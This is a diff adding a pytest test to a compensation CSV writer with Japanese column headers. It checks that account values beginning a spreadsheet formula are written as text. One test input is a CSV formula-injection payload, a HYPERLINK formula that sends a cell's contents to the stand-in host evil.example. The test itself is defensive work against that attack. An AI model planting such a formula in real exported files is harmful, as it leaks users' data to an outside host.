@@ -253,3 +253,18 @@ def test_csv_has_japanese_headers_and_every_row(tmp_path: Path) -> None:
     assert first["評価日 (valuation date)"] == "2025-03-28"
     assert "不正買付" in first["説明 (explanation (Japanese))"]
     assert msgspec.json.encode(rows[0])  # rows serialize for the web console as they are
+
+
+@pytest.mark.parametrize("account", ['=HYPERLINK("http://evil.example/?"&A1,"V1")', "@SUM(1)"])
+def test_an_account_number_that_starts_a_formula_is_text_in_the_csv(
+    tmp_path: Path, account: str
+) -> None:
+    """Excel opens these files; an account number from the events must not run in it."""
+    row = msgspec.structs.replace(
+        compensation_table(scenario_run(tmp_path), resolve_policies(None))[0], account=account
+    )
+    path = write_compensation_csv([row], tmp_path / "c.csv")
+    with path.open(encoding="utf-8-sig", newline="") as f:
+        read = list(csv.DictReader(f))
+    assert read[0]["口座 (account)"] == "'" + account
+    assert read[0]["補償方針 (policy)"] == "sbi-rakuten-2025"  # other text as it was
